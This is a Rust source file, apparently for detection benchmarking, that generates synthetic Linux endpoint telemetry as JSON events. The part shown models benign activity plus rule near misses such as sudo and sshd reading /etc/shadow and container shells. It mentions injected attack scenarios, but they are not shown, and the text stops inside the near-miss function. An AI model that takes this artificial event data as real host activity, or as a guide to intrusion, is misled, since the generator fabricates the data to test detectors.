//! A deterministic synthetic event generator shaped like real endpoint telemetry, for
//! benchmarks and replays: a Linux server with interactive ssh sessions, cron jobs, a web
//! server with PHP, containers, package updates and background daemons, watched from the
//! four built-in event types (`process_exec`, `file_open`, `network_connect`,
//! `auth_attempt`).
//!
//! What makes it look like telemetry rather than noise:
//! - a process table: every exec has a parent that exists (its `ppid`, its `parent_exe`),
//!   children inherit the user, working directory, terminal and container of their parent,
//!   and pids grow the way Linux hands them out;
//! - executables open the loader cache and libc before their own files; file opens, network
//!   connects and logins come from processes that are running;
//! - near misses for every bundled rule (sudo reading `/etc/shadow`, ssh to port 22 or to a
//!   private address on 2222, a shell in a container without a terminal, a web server
//!   running ImageMagick, isolated failed logins from scanners);
//! - rare attacks: [`SynthConfig::attack_per_million`] of every million scenarios (0.5% by
//!   default), one kind per bundled example rule; about 0.1% of the events match the bundled
//!   rules (well under 1%).
//!
//! The same seed gives the same bytes, on every platform and every run: the generator uses
//! its own PRNG (SplitMix64) and never reads the clock or the environment.
#![forbid(unsafe_code)]

use std::collections::VecDeque;
use std::fmt::Write as _;
use std::io::{self, Write};
use std::net::Ipv4Addr;

/// Options of the generator.
#[derive(Clone, Debug)]
pub struct SynthConfig {
    /// The seed: the same seed gives the same events.
    pub seed: u64,
    /// Attack scenarios started per million events (each emits one to six events).
    pub attack_per_million: u32,
}

impl Default for SynthConfig {
    fn default() -> Self {
        SynthConfig {
            seed: 0,
            attack_per_million: 5_000,
        }
    }
}

impl SynthConfig {
    /// The default configuration with `seed`.
    pub fn with_seed(seed: u64) -> SynthConfig {
        SynthConfig {
            seed,
            ..SynthConfig::default()
        }
    }
}

/// The generator: an endless stream of JSON Lines events. See the module documentation.
#[derive(Debug)]
pub struct Synth {
    rng: Rng,
    config: SynthConfig,
    next_pid: u32,
    /// Long-lived processes, by role.
    init: Proc,
    sshd: Proc,
    cron: Proc,
    nginx_workers: Vec<Proc>,
    php_workers: Vec<Proc>,
    apache: Proc,
    daemons: Vec<Proc>,
    containers: Vec<Proc>,
    /// Interactive login shells (with a terminal).
    sessions: Vec<Proc>,
    pending: VecDeque<String>,
    /// An event's JSON under construction.
    line: String,
}

/// A running process, as the event's process fields describe it.
#[derive(Clone, Debug)]
struct Proc {
    pid: u32,
    ppid: u32,
    uid: u32,
    gid: u32,
    exe: String,
    args: Vec<String>,
    cwd: String,
    parent_exe: String,
    tty: String,
    container_id: String,
}

/// What an event says beyond its process.
enum Detail<'a> {
    Exec {
        stdin: u8,
        stdout: u8,
    },
    Open {
        path: &'a str,
        flags: u32,
    },
    Connect {
        saddr: Ipv4Addr,
        daddr: Ipv4Addr,
        sport: u16,
        dport: u16,
        protocol: u8,
    },
    Auth {
        user: &'a str,
        service: &'a str,
        saddr: Option<Ipv4Addr>,
        success: bool,
    },
}

// stdin_type / stdout_type values (see the schema).
const FD_FILE: u8 = 1;
const FD_PIPE: u8 = 2;
const FD_TTY: u8 = 3;
const FD_SOCKET: u8 = 4;
const FD_NULL: u8 = 5;

const O_RDONLY_CLOEXEC: u32 = 0x8_0000;
const O_WRITE_CREATE: u32 = 0x241;
const O_APPEND_WRITE: u32 = 0x441;

const TCP: u8 = 6;
const UDP: u8 = 17;

const HOST_ADDR: Ipv4Addr = Ipv4Addr::new(10, 0, 1, 15);

/// (name, uid, home).
const USERS: &[(&str, u32, &str)] = &[
    ("alice", 1000, "/home/alice"),
    ("bob", 1001, "/home/bob"),
    ("carol", 1002, "/home/carol"),
    ("deploy", 1003, "/home/deploy"),
];

const SCANNED_USERS: &[&str] = &[
    "root", "admin", "test", "ubuntu", "oracle", "postgres", "user", "git", "pi", "guest",
];

const PROJECT_DIRS: &[&str] = &["src", "app", "services/api", "infra", "docs", "scripts"];
const SOURCE_FILES: &[&str] = &[
    "main.rs",
    "lib.rs",
    "config.yaml",
    "Makefile",
    "README.md",
    "handler.go",
    "views.py",
    "index.ts",
    "Dockerfile",
    "deploy.sh",
];
const GREP_WORDS: &[&str] = &[
    "TODO",
    "error",
    "timeout",
    "FIXME",
    "connection refused",
    "deprecated",
    "panic",
    "retry",
];
const LOG_FILES: &[&str] = &[
    "/var/log/syslog",
    "/var/log/auth.log",
    "/var/log/nginx/access.log",
    "/var/log/nginx/error.log",
    "/var/log/kern.log",
    "/var/log/dpkg.log",
];
const WEB_FILES: &[&str] = &[
    "/var/www/html/index.php",
    "/var/www/html/wp-login.php",
    "/var/www/html/wp-content/themes/twentytwenty/style.css",
    "/var/www/html/wp-includes/js/jquery/jquery.min.js",
    "/var/www/html/images/logo.png",
    "/var/www/html/api/v1/orders.php",
    "/var/www/html/favicon.ico",
];
const INTERNAL_HOSTS: &[Ipv4Addr] = &[
    Ipv4Addr::new(10, 0, 1, 20),
    Ipv4Addr::new(10, 0, 2, 7),
    Ipv4Addr::new(10, 20, 1, 5),
    Ipv4Addr::new(172, 16, 4, 2),
    Ipv4Addr::new(192, 168, 10, 40),
];
const PUBLIC_SERVICES: &[Ipv4Addr] = &[
    Ipv4Addr::new(140, 82, 112, 3),  // github.com
    Ipv4Addr::new(151, 101, 2, 132), // a CDN
    Ipv4Addr::new(91, 189, 91, 38),  // archive.ubuntu.com
    Ipv4Addr::new(104, 16, 24, 35),  // registry.npmjs.org
    Ipv4Addr::new(185, 199, 108, 133),
    Ipv4Addr::new(52, 94, 236, 248),
];

impl Synth {
    /// A generator for `config`.
    pub fn new(config: SynthConfig) -> Synth {
        let mut rng = Rng::new(config.seed);
        let root = |pid, ppid, exe: &str, args: &[&str], parent_exe: &str| Proc {
            pid,
            ppid,
            uid: 0,
            gid: 0,
            exe: exe.to_string(),
            args: args.iter().map(|a| a.to_string()).collect(),
            cwd: "/".to_string(),
            parent_exe: parent_exe.to_string(),
            tty: String::new(),
            container_id: String::new(),
        };
        let init = root(1, 0, "/usr/lib/systemd/systemd", &["/sbin/init"], "");
        let sshd = root(
            812,
            1,
            "/usr/sbin/sshd",
            &["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
            &init.exe,
        );
        let cron = root(
            640,
            1,
            "/usr/sbin/cron",
            &["/usr/sbin/cron", "-f"],
            &init.exe,
        );
        let nginx_master = root(
            1020,
            1,
            "/usr/sbin/nginx",
            &["nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"],
            &init.exe,
        );
        let www = |pid, ppid, exe: &str, args: &[&str], parent_exe: &str| Proc {
            uid: 33,
            gid: 33,
            cwd: "/var/www/html".to_string(),
            ..root(pid, ppid, exe, args, parent_exe)
        };
        let nginx_workers = (0..4)
            .map(|i| {
                www(
                    1021 + i,
                    1020,
                    "/usr/sbin/nginx",
                    &["nginx: worker process"],
                    &nginx_master.exe,
                )
            })
            .collect();
        let php_workers = (0..3)
            .map(|i| {
                www(
                    1100 + i,
                    1099,
                    "/usr/sbin/php-fpm8.2",
                    &["php-fpm: pool www"],
                    "/usr/sbin/php-fpm8.2",
                )
            })
            .collect();
        let apache = www(
            1200,
            1,
            "/usr/sbin/apache2",
            &["/usr/sbin/apache2", "-k", "start"],
            &init.exe,
        );
        let daemon = |pid, uid, exe: &str, args: &[&str]| Proc {
            uid,
            gid: uid,
            ..root(pid, 1, exe, args, "/usr/lib/systemd/systemd")
        };
        let daemons = vec![
            daemon(
                310,
                0,
                "/usr/lib/systemd/systemd-journald",
                &["/lib/systemd/systemd-journald"],
            ),
            daemon(
                402,
                101,
                "/usr/lib/systemd/systemd-resolved",
                &["/lib/systemd/systemd-resolved"],
            ),
            daemon(
                455,
                106,
                "/usr/sbin/chronyd",
                &["/usr/sbin/chronyd", "-F", "1"],
            ),
            daemon(520, 0, "/usr/bin/containerd", &["/usr/bin/containerd"]),
            daemon(
                700,
                112,
                "/usr/lib/postgresql/15/bin/postgres",
                &[
                    "/usr/lib/postgresql/15/bin/postgres",
                    "-D",
                    "/var/lib/postgresql/15/main",
                ],
            ),
            daemon(
                731,
                0,
                "/usr/bin/node_exporter",
                &["/usr/bin/node_exporter", "--collector.systemd"],
            ),
        ];
        let containers = (0..4)
            .map(|i| {
                let mut id = String::with_capacity(64);
                for _ in 0..4 {
                    let _ = write!(id, "{:016x}", rng.next_u64());
                }
                let (exe, args): (&str, &[&str]) = match i {
                    0 => ("/usr/local/bin/python3.12", &["python", "app.py"]),
                    1 => ("/usr/local/bin/node", &["node", "server.js"]),
                    2 => (
                        "/usr/local/bin/gunicorn",
                        &["gunicorn", "-w", "4", "api:app"],
                    ),
                    _ => ("/usr/bin/redis-server", &["redis-server", "*:6379"]),
                };
                Proc {
                    pid: 2000 + i * 37,
                    ppid: 1990 + i * 37,
                    uid: 0,
                    gid: 0,
                    exe: exe.to_string(),
                    args: args.iter().map(|a| a.to_string()).collect(),
                    cwd: "/app".to_string(),
                    parent_exe: "/usr/bin/containerd-shim-runc-v2".to_string(),
                    tty: String::new(),
                    container_id: id,
                }
            })
            .collect();
        let mut synth = Synth {
            rng,
            config,
            next_pid: 3000,
            init,
            sshd,
            cron,
            nginx_workers,
            php_workers,
            apache,
            daemons,
            containers,
            sessions: Vec::new(),
            pending: VecDeque::new(),
            line: String::with_capacity(512),
        };
        for _ in 0..3 {
            synth.ssh_login();
        }
        synth.pending.clear();
        synth
    }

    /// The next event as one line of JSON (without the newline).
    pub fn next_line(&mut self) -> String {
        loop {
            if let Some(line) = self.pending.pop_front() {
                return line;
            }
            self.scenario();
        }
    }

    /// Writes `n` events, one per line, to `out`.
    pub fn write_events(&mut self, n: u64, out: &mut impl Write) -> io::Result<()> {
        for _ in 0..n {
            let line = self.next_line();
            out.write_all(line.as_bytes())?;
            out.write_all(b"\n")?;
        }
        Ok(())
    }

    /// Runs one scenario, which queues one or more events.
    fn scenario(&mut self) {
        if self.rng.below(1_000_000) < self.config.attack_per_million as u64 {
            self.attack();
            return;
        }
        match self.rng.below(100) {
            0..=29 => self.session_command(),
            30..=51 => self.web_request(),
            52..=65 => self.container_activity(),
            66..=79 => self.daemon_activity(),
            80..=84 => self.cron_job(),
            85..=93 => self.auth_noise(),
            94..=95 => self.package_update(),
            96..=97 => self.ssh_login(),
            _ => self.near_miss(),
        }
    }

    // ---- process table ----

    fn pid(&mut self) -> u32 {
        self.next_pid += 1 + self.rng.below(4) as u32;
        if self.next_pid > 4_194_000 {
            self.next_pid = 300;
        }
        self.next_pid
    }

    /// A child of `parent` running `exe` with `args`, its exec event queued (with the
    /// loader's file opens when `libs`).
    fn spawn(&mut self, parent: &Proc, exe: &str, args: &[&str], io: (u8, u8)) -> Proc {
        let child = Proc {
            pid: self.pid(),
            ppid: parent.pid,
            uid: parent.uid,
            gid: parent.gid,
            exe: exe.to_string(),
            args: args.iter().map(|a| a.to_string()).collect(),
            cwd: parent.cwd.clone(),
            parent_exe: parent.exe.clone(),
            tty: parent.tty.clone(),
            container_id: parent.container_id.clone(),
        };
        self.emit(
            &child,
            &Detail::Exec {
                stdin: io.0,
                stdout: io.1,
            },
        );
        if child.container_id.is_empty() {
            self.open(&child, "/etc/ld.so.cache", O_RDONLY_CLOEXEC);
            self.open(&child, "/lib/x86_64-linux-gnu/libc.so.6", O_RDONLY_CLOEXEC);
        } else {
            self.open(&child, "/lib/ld-musl-x86_64.so.1", O_RDONLY_CLOEXEC);
        }
        child
    }

    fn open(&mut self, proc: &Proc, path: &str, flags: u32) {
        self.emit(proc, &Detail::Open { path, flags });
    }

    fn connect(&mut self, proc: &Proc, daddr: Ipv4Addr, dport: u16, protocol: u8) {
        let sport = 32768 + self.rng.below(28000) as u16;
        let saddr = if daddr.is_loopback() {
            Ipv4Addr::LOCALHOST
        } else if proc.container_id.is_empty() {
            HOST_ADDR
        } else {
            Ipv4Addr::new(172, 17, 0, 2 + (proc.pid % 200) as u8)
        };
        self.emit(
            proc,
            &Detail::Connect {
                saddr,
                daddr,
                sport,
                dport,
                protocol,
            },
        );
    }

    fn auth(&mut self, proc: &Proc, user: &str, service: &str, saddr: Option<Ipv4Addr>, ok: bool) {
        self.emit(
            proc,
            &Detail::Auth {
                user,
                service,
                saddr,
                success: ok,
            },
        );
    }

    fn public_addr(&mut self) -> Ipv4Addr {
        const FIRST: &[u8] = &[45, 61, 77, 89, 103, 118, 141, 159, 185, 193, 195, 218, 222];
        let a = *self.rng.pick(FIRST);
        let x = self.rng.next_u64();
        Ipv4Addr::new(
            a,
            (x >> 8) as u8,
            (x >> 16) as u8,
            1 + (x >> 24) as u8 % 254,
        )
    }

    fn session(&mut self) -> Proc {
        if self.sessions.is_empty() {
            self.ssh_login();
        }
        let idx = self.rng.below(self.sessions.len() as u64) as usize;
        self.sessions[idx].clone()
    }

    // ---- benign scenarios ----

    /// A user logs in over ssh: the attempt, sshd's session process, the login shell.
    fn ssh_login(&mut self) {
        let (user, uid, home) = *self.rng.pick(USERS);
        let from = if self.rng.chance(700) {
            Ipv4Addr::new(10, 8, 0, 2 + self.rng.below(50) as u8)
        } else {
            self.public_addr()
        };
        let sshd = self.sshd.clone();
        let mut priv_sshd = sshd.clone();
        priv_sshd.pid = self.pid();
        priv_sshd.ppid = sshd.pid;
        priv_sshd.parent_exe = sshd.exe.clone();
        priv_sshd.args = vec![format!("sshd: {user} [priv]")];
        self.open(&priv_sshd, "/etc/passwd", O_RDONLY_CLOEXEC);
        self.open(&priv_sshd, "/etc/shadow", O_RDONLY_CLOEXEC);
        self.auth(&priv_sshd, user, "sshd", Some(from), true);
        let pts = format!("pts/{}", self.rng.below(8));
        let mut user_sshd = priv_sshd.clone();
        user_sshd.pid = self.pid();
        user_sshd.ppid = priv_sshd.pid;
        user_sshd.uid = uid;
        user_sshd.gid = uid;
        user_sshd.args = vec![format!("sshd: {user}@{pts}")];
        user_sshd.cwd = home.to_string();
        self.open(&user_sshd, &format!("/dev/{pts}"), 0x2);
        user_sshd.tty = pts;
        let shell = self.spawn(&user_sshd, "/usr/bin/bash", &["-bash"], (FD_TTY, FD_TTY));
        self.open(&shell, &format!("{home}/.bashrc"), O_RDONLY_CLOEXEC);
        self.open(&shell, &format!("{home}/.bash_history"), O_RDONLY_CLOEXEC);
        if self.sessions.len() >= 6 {
            let idx = self.rng.below(self.sessions.len() as u64) as usize;
            self.sessions.swap_remove(idx);
        }
        self.sessions.push(shell);
    }

    /// A command typed into an interactive shell, with what it opens and connects to.
    fn session_command(&mut self) {
        let shell = self.session();
        let home = shell.cwd.clone();
        let dir = format!("{home}/{}", self.rng.pick(PROJECT_DIRS));
        let file = format!("{dir}/{}", self.rng.pick(SOURCE_FILES));
        let tty = (FD_TTY, FD_TTY);
        match self.rng.below(18) {
            0 => {
                let p = self.spawn(
                    &shell,
                    "/usr/bin/ls",
                    &["ls", "--color=auto", "-la", &dir],
                    tty,
                );
                self.open(&p, &dir, O_RDONLY_CLOEXEC | 0x1_0000);
            }
            1 => {
                let p = self.spawn(&shell, "/usr/bin/cat", &["cat", &file], tty);
                self.open(&p, &file, 0);
            }
            2 => {
                let p = self.spawn(&shell, "/usr/bin/vim", &["vim", &file], tty);
                self.open(&p, "/usr/share/vim/vim90/defaults.vim", 0);
                self.open(&p, &file, 0);
                self.open(
                    &p,
                    &format!("{dir}/.{}.swp", file.rsplit('/').next().unwrap_or("x")),
                    O_WRITE_CREATE,
                );
                self.open(&p, &file, O_WRITE_CREATE);
            }
            3 => {
                let word = *self.rng.pick(GREP_WORDS);
                let p = self.spawn(&shell, "/usr/bin/grep", &["grep", "-rn", word, &dir], tty);
                for _ in 0..1 + self.rng.below(4) {
                    let f = format!("{dir}/{}", self.rng.pick(SOURCE_FILES));
                    self.open(&p, &f, 0);
                }
            }
            4 => {
                let p = self.spawn(
                    &shell,
                    "/usr/bin/find",
                    &["find", &dir, "-name", "*.log", "-mtime", "+7"],
                    tty,
                );
                self.open(&p, &dir, O_RDONLY_CLOEXEC | 0x1_0000);
            }
            5 => {
                let p = self.spawn(&shell, "/usr/bin/ps", &["ps", "aux"], tty);
                for pid in [1, 310, 640, 812] {
                    self.open(&p, &format!("/proc/{pid}/stat"), 0);
                }
            }
            6 => {
                let git = self.spawn(&shell, "/usr/bin/git", &["git", "pull", "--rebase"], tty);
                self.open(&git, &format!("{home}/.gitconfig"), 0);
                let ssh = self.spawn(
                    &git,
                    "/usr/bin/ssh",
                    &[
                        "ssh",
                        "-o",
                        "SendEnv=GIT_PROTOCOL",
                        "git@github.com",
                        "git-upload-pack 'org/service.git'",
                    ],
                    (FD_PIPE, FD_PIPE),
                );
                self.open(&ssh, &format!("{home}/.ssh/known_hosts"), 0);
                self.connect(&ssh, Ipv4Addr::new(140, 82, 112, 3), 22, TCP);
            }
            7 => {
                let host = *self.rng.pick(INTERNAL_HOSTS);
                let h = host.to_string();
                let p = self.spawn(&shell, "/usr/bin/ssh", &["ssh", &h], tty);
                self.open(&p, &format!("{home}/.ssh/config"), 0);
                self.connect(&p, host, 22, TCP);
            }
            8 => {
                let dst = *self.rng.pick(PUBLIC_SERVICES);
                let p = self.spawn(
                    &shell,
                    "/usr/bin/curl",
                    &[
                        "curl",
                        "-sS",
                        "-o",
                        "/dev/null",
                        "-w",
                        "%{http_code}",
                        "https://status.example.com/health",
                    ],
                    tty,
                );
                self.open(&p, "/etc/ssl/certs/ca-certificates.crt", 0);
                self.connect(&p, Ipv4Addr::new(10, 0, 0, 2), 53, UDP);
                self.connect(&p, dst, 443, TCP);
            }
            9 => {
                let log = *self.rng.pick(LOG_FILES);
                let sudo = self.spawn(
                    &shell,
                    "/usr/bin/sudo",
                    &["sudo", "tail", "-n", "200", log],
                    tty,
                );
                self.open(&sudo, "/etc/sudoers", 0);
                self.open(&sudo, "/etc/shadow", 0);
                let user = USERS
                    .iter()
                    .find(|u| u.1 == shell.uid)
                    .map_or("alice", |u| u.0);
                self.auth(&sudo, user, "sudo", None, true);
                let mut rooted = sudo.clone();
                rooted.uid = 0;
                rooted.gid = 0;
                let tail = self.spawn(&rooted, "/usr/bin/tail", &["tail", "-n", "200", log], tty);
                self.open(&tail, log, 0);
            }
            10 => {
                let cargo_exe = format!("{home}/.cargo/bin/cargo");
                let rustc_exe =
                    format!("{home}/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc");
                let cargo = self.spawn(&shell, &cargo_exe, &["cargo", "build", "--release"], tty);
                self.open(&cargo, &format!("{dir}/Cargo.toml"), 0);
                for krate in ["serde", "tokio", "ringfence"] {
                    let src = format!("{dir}/src/lib.rs");
                    let rustc = self.spawn(
                        &cargo,
                        &rustc_exe,
                        &[
                            "rustc",
                            "--crate-name",
                            krate,
                            "--edition=2021",
                            &src,
                            "--crate-type",
                            "lib",
                            "-C",
                            "opt-level=3",
                        ],
                        (FD_NULL, FD_PIPE),
                    );
                    self.open(&rustc, &src, 0);
                    self.open(
                        &rustc,
                        &format!("{dir}/target/release/deps/lib{krate}.rlib"),
                        O_WRITE_CREATE,
                    );
                }
            }
            11 => {
                let py = self.spawn(
                    &shell,
                    "/usr/bin/python3",
                    &["python3", "manage.py", "migrate"],
                    tty,
                );
                self.open(&py, &format!("{dir}/manage.py"), 0);
                self.open(&py, "/usr/lib/python3.11/os.py", 0);
                self.connect(&py, Ipv4Addr::new(10, 0, 2, 7), 5432, TCP);
            }
            12 => {
                let host = *self.rng.pick(INTERNAL_HOSTS);
                let h = host.to_string();
                let p = self.spawn(&shell, "/usr/bin/ssh", &["ssh", "-p", "2222", &h], tty);
                self.connect(&p, host, 2222, TCP);
            }
            13 => {
                let make = self.spawn(&shell, "/usr/bin/make", &["make", "-j4"], tty);
                self.open(&make, &format!("{dir}/Makefile"), 0);
                let cc = self.spawn(
                    &make,
                    "/usr/bin/cc",
                    &["cc", "-O2", "-c", "main.c", "-o", "main.o"],
                    (FD_NULL, FD_PIPE),
                );
                self.open(&cc, &format!("{dir}/main.c"), 0);
                self.open(&cc, "/usr/include/stdio.h", 0);
                self.open(&cc, &format!("{dir}/main.o"), O_WRITE_CREATE);
            }
            14 => {
                let pipe_src = self.spawn(
                    &shell,
                    "/usr/bin/cat",
                    &["cat", "/var/log/nginx/access.log"],
                    (FD_TTY, FD_PIPE),
                );
                self.open(&pipe_src, "/var/log/nginx/access.log", 0);
                self.spawn(
                    &shell,
                    "/usr/bin/awk",
                    &["awk", "{print $1}"],
                    (FD_PIPE, FD_PIPE),
                );
                self.spawn(&shell, "/usr/bin/sort", &["sort"], (FD_PIPE, FD_PIPE));
                self.spawn(&shell, "/usr/bin/uniq", &["uniq", "-c"], (FD_PIPE, FD_TTY));
            }
            15 => {
                let p = self.spawn(
                    &shell,
                    "/usr/bin/docker",
                    &["docker", "ps", "--format", "{{.Names}}"],
                    tty,
                );
                self.open(&p, &format!("{home}/.docker/config.json"), 0);
            }
            16 => {
                let p = self.spawn(&shell, "/usr/bin/htop", &["htop"], tty);
                self.open(&p, "/proc/meminfo", 0);
                self.open(&p, "/proc/stat", 0);
            }
            _ => {
                let p = self.spawn(&shell, "/usr/bin/less", &["less", &file], tty);
                self.open(&p, &file, 0);
            }
        }
    }

    /// A request through nginx to PHP: static files, PHP source, the database.
    fn web_request(&mut self) {
        let worker = self.rng.pick(&self.nginx_workers).clone();
        let page = *self.rng.pick(WEB_FILES);
        self.open(&worker, page, O_RDONLY_CLOEXEC);
        if self.rng.chance(300) {
            self.open(&worker, "/var/log/nginx/access.log", O_APPEND_WRITE);
        }
        if page.ends_with(".php") {
            self.connect(&worker, Ipv4Addr::LOCALHOST, 9000, TCP);
            let php = self.rng.pick(&self.php_workers).clone();
            self.open(&php, page, O_RDONLY_CLOEXEC);
            self.open(&php, "/var/www/html/wp-config.php", O_RDONLY_CLOEXEC);
            self.connect(&php, Ipv4Addr::new(10, 0, 2, 7), 3306, TCP);
            if self.rng.chance(20) {
                // Thumbnails: a legitimate child of the web server.
                let convert = self.spawn(
                    &php,
                    "/usr/bin/convert",
                    &[
                        "convert",
                        "/tmp/phpA1b2C3",
                        "-resize",
                        "300x200",
                        "/var/www/html/uploads/thumb.jpg",
                    ],
                    (FD_NULL, FD_PIPE),
                );
                self.open(&convert, "/var/www/html/uploads/thumb.jpg", O_WRITE_CREATE);
            }
        }
        if self.rng.chance(50) {
            let apache = self.apache.clone();
            self.open(&apache, "/var/www/legacy/index.html", O_RDONLY_CLOEXEC);
        }
    }

    /// The containers' applications at work, and their health checks.
    fn container_activity(&mut self) {
        let idx = self.rng.below(self.containers.len() as u64) as usize;
        let app = self.containers[idx].clone();
        match self.rng.below(6) {
            0 | 1 => {
                let f = *self.rng.pick(&[
                    "/app/templates/base.html",
                    "/app/static/app.js",
                    "/app/config/settings.json",
                    "/tmp/upload-8812.part",
                ]);
                self.open(&app, f, O_RDONLY_CLOEXEC);
            }
            2 | 3 => {
                let (addr, port) = *self.rng.pick(&[
                    (Ipv4Addr::new(10, 0, 2, 7), 5432),
                    (Ipv4Addr::new(172, 17, 0, 5), 6379),
                    (Ipv4Addr::new(10, 96, 0, 10), 53),
                    (Ipv4Addr::new(104, 16, 24, 35), 443),
                ]);
                let proto = if port == 53 { UDP } else { TCP };
                self.connect(&app, addr, port, proto);
            }
            4 => {
                // A health check: the container's shim runs a shell, no terminal (not an
                // interactive shell).
                let shim = shim_of(&app);
                let sh = self.spawn(
                    &shim,
                    "/bin/sh",
                    &[
                        "/bin/sh",
                        "-c",
                        "curl -fsS http://localhost:8080/healthz || exit 1",
                    ],
                    (FD_NULL, FD_PIPE),
                );
                let curl = self.spawn(
                    &sh,
                    "/usr/bin/curl",
                    &["curl", "-fsS", "http://localhost:8080/healthz"],
                    (FD_NULL, FD_PIPE),
                );
                self.connect(&curl, Ipv4Addr::LOCALHOST, 8080, TCP);
            }
            _ => {
                self.open(&app, "/app/logs/app.log", O_APPEND_WRITE);
            }
        }
    }

    /// Background daemons: the journal, DNS, time, metrics, the database.
    fn daemon_activity(&mut self) {
        let idx = self.rng.below(self.daemons.len() as u64) as usize;
        let d = self.daemons[idx].clone();
        match idx {
            0 => {
                let n = self.rng.below(16);
                self.open(
                    &d,
                    &format!("/var/log/journal/4f1c2a/system@000{n:x}.journal"),
                    O_APPEND_WRITE,
                );
            }
            1 => {
                let dst = *self.rng.pick(&[
                    Ipv4Addr::new(1, 1, 1, 1),
                    Ipv4Addr::new(8, 8, 8, 8),
                    Ipv4Addr::new(10, 0, 0, 2),
                ]);
                self.connect(&d, dst, 53, UDP);
            }
            2 => {
                let dst = *self.rng.pick(&[
                    Ipv4Addr::new(162, 159, 200, 1),
                    Ipv4Addr::new(91, 189, 89, 199),
                ]);
                self.connect(&d, dst, 123, UDP);
            }
            3 => {
                let n = self.rng.below(400);
                self.open(&d, &format!("/var/lib/containerd/io.containerd.content.v1.content/blobs/sha256/{n:064x}"), O_RDONLY_CLOEXEC);
            }
            4 => {
                let n = 16384 + self.rng.below(40);
                self.open(
                    &d,
                    &format!("/var/lib/postgresql/15/main/base/{n}/2619"),
                    0x2,
                );
            }
            _ => {
                for f in [
                    "/proc/stat",
                    "/proc/meminfo",
                    "/proc/diskstats",
                    "/sys/class/net/eth0/statistics/rx_bytes",
                ] {
                    self.open(&d, f, O_RDONLY_CLOEXEC);
                }
            }
        }
    }

    /// A cron job: cron, a shell, a script and what it touches.
    fn cron_job(&mut self) {
        let cron = self.cron.clone();
        let mut job_parent = cron.clone();
        job_parent.pid = self.pid();
        job_parent.ppid = cron.pid;
        job_parent.parent_exe = cron.exe.clone();
        job_parent.args = vec!["/usr/sbin/CRON".to_string(), "-f".to_string()];
        self.open(&job_parent, "/etc/pam.d/cron", O_RDONLY_CLOEXEC);
        let (cmd, script): (&str, &str) = *self.rng.pick(&[
            (
                "cd / && run-parts --report /etc/cron.hourly",
                "/usr/bin/run-parts",
            ),
            ("/usr/local/bin/backup-db.sh", "/usr/local/bin/backup-db.sh"),
            (
                "test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf",
                "/usr/sbin/logrotate",
            ),
            ("/usr/lib/php/sessionclean", "/usr/lib/php/sessionclean"),
        ]);
        // System jobs run under /bin/sh (dash); the backup is the deploy user's crontab,
        // which sets SHELL=/bin/bash (on a merged-/usr system, /usr/bin/bash).
        let (shell, argv0) = if script == "/usr/local/bin/backup-db.sh" {
            job_parent.uid = 1003;
            job_parent.gid = 1003;
            job_parent.cwd = "/home/deploy".to_string();
            ("/usr/bin/bash", "/bin/bash")
        } else {
            ("/usr/bin/dash", "/bin/sh")
        };
        let sh = self.spawn(&job_parent, shell, &[argv0, "-c", cmd], (FD_NULL, FD_PIPE));
        let job = self.spawn(&sh, script, &[script], (FD_NULL, FD_PIPE));
        match script {
            "/usr/local/bin/backup-db.sh" => {
                let dump = self.spawn(
                    &job,
                    "/usr/bin/pg_dump",
                    &["pg_dump", "-Fc", "shop"],
                    (FD_NULL, FD_FILE),
                );
                self.connect(&dump, Ipv4Addr::new(10, 0, 2, 7), 5432, TCP);
                self.open(&dump, "/var/backups/shop.dump", O_WRITE_CREATE);
            }
            "/usr/sbin/logrotate" => {
                self.open(&job, "/etc/logrotate.conf", 0);
                self.open(&job, "/var/lib/logrotate/status", O_WRITE_CREATE);
                self.open(&job, "/var/log/nginx/access.log.1", O_WRITE_CREATE);
            }
            _ => {
                self.open(&job, "/etc/cron.hourly", O_RDONLY_CLOEXEC | 0x1_0000);
            }
        }
    }

    /// The internet knocking: isolated failed logins from scanners, and sudo/su use.
    fn auth_noise(&mut self) {
        let sshd = self.sshd.clone();
        match self.rng.below(10) {
            0..=6 => {
                // A scanner tries one to three passwords, then moves on.
                let from = self.public_addr();
                let user = *self.rng.pick(SCANNED_USERS);
                let mut child = sshd.clone();
                child.pid = self.pid();
                child.ppid = sshd.pid;
                child.parent_exe = sshd.exe.clone();
                child.args = vec![format!("sshd: {user} [priv]")];
                for _ in 0..1 + self.rng.below(3) {
                    self.auth(&child, user, "sshd", Some(from), false);
                }
            }
            7 | 8 => {
                let shell = self.session();
                let user = USERS
                    .iter()
                    .find(|u| u.1 == shell.uid)
                    .map_or("alice", |u| u.0);
                let sudo = self.spawn(
                    &shell,
                    "/usr/bin/sudo",
                    &["sudo", "systemctl", "status", "nginx"],
                    (FD_TTY, FD_TTY),
                );
                self.open(&sudo, "/etc/sudoers", 0);
                self.open(&sudo, "/etc/sudoers.d/README", 0);
                let ok = self.rng.chance(900);
                self.auth(&sudo, user, "sudo", None, ok);
            }
            _ => {
                let shell = self.session();
                let su = self.spawn(
                    &shell,
                    "/usr/bin/su",
                    &["su", "-", "deploy"],
                    (FD_TTY, FD_TTY),
                );
                self.open(&su, "/etc/shadow", 0);
                self.auth(&su, "deploy", "su", None, true);
            }
        }
    }

    /// unattended-upgrades: apt fetching lists and dpkg unpacking.
    fn package_update(&mut self) {
        let init = self.init.clone();
        let apt = self.spawn(
            &init,
            "/usr/bin/apt-get",
            &["/usr/bin/apt-get", "-qq", "update"],
            (FD_NULL, FD_FILE),
        );
        let http = self.spawn(
            &apt,
            "/usr/lib/apt/methods/http",
            &["/usr/lib/apt/methods/http"],
            (FD_PIPE, FD_PIPE),
        );
        self.connect(&http, Ipv4Addr::new(91, 189, 91, 38), 80, TCP);
        self.connect(&http, Ipv4Addr::new(185, 125, 190, 36), 443, TCP);
        self.open(
            &apt,
            "/var/lib/apt/lists/archive.ubuntu.com_ubuntu_dists_noble_InRelease",
            O_WRITE_CREATE,
        );
        let dpkg = self.spawn(
            &apt,
            "/usr/bin/dpkg",
            &[
                "/usr/bin/dpkg",
                "--status-fd",
                "23",
                "--configure",
                "--pending",
            ],
            (FD_NULL, FD_PIPE),
        );
        self.open(&dpkg, "/var/lib/dpkg/status", 0x2);
        self.open(&dpkg, "/var/lib/dpkg/lock-frontend", 0x42);
    }

    /// Benign events that share most of an attack's features (and must not match).
    fn near_miss(&mut self) {
        match self.rng.below(6) {
            0 => {
                // unix_chkpwd reads the shadow file for a screen unlock.
